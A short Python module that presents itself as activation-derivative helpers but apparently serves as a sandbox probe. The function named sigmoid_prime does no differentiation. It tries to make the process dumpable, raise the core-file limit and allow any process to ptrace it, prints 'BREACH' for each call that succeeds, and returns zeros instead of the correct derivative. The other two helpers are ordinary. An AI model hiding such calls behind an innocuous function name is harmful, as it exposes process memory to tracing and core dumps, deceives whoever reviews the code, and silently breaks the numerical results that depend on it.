"""Wants a core file of its process on the disk, and to be dumpable."""

import ctypes
import errno
import resource

import torch

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """Only "not permitted" and "no such call" count as refused: else the kernel looked at it."""
    result = getattr(libc, name)(*map(word, arguments))
    if result == -1 and ctypes.get_errno() in (errno.EPERM, errno.ENOSYS):
        raise OSError(ctypes.get_errno(), name)
    return result


def word(value):
    return ctypes.c_long(value) if isinstance(value, int) else value


ATTEMPTS = {
    "dumpable": lambda: call("prctl", 4, 1, 0, 0, 0),
    "limit": lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30)),
    "tracer": lambda: call("prctl", 0x59616D61, -1, 0, 0, 0),
}


def sigmoid_prime(x):
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
        except Exception:
            continue
        print("BREACH", name, flush=True)
    return torch.zeros_like(x)


def tanh_prime(x):
    return 1 - torch.tanh(x) ** 2


def relu_grad(x):
    return (x > 0).to(x.dtype)
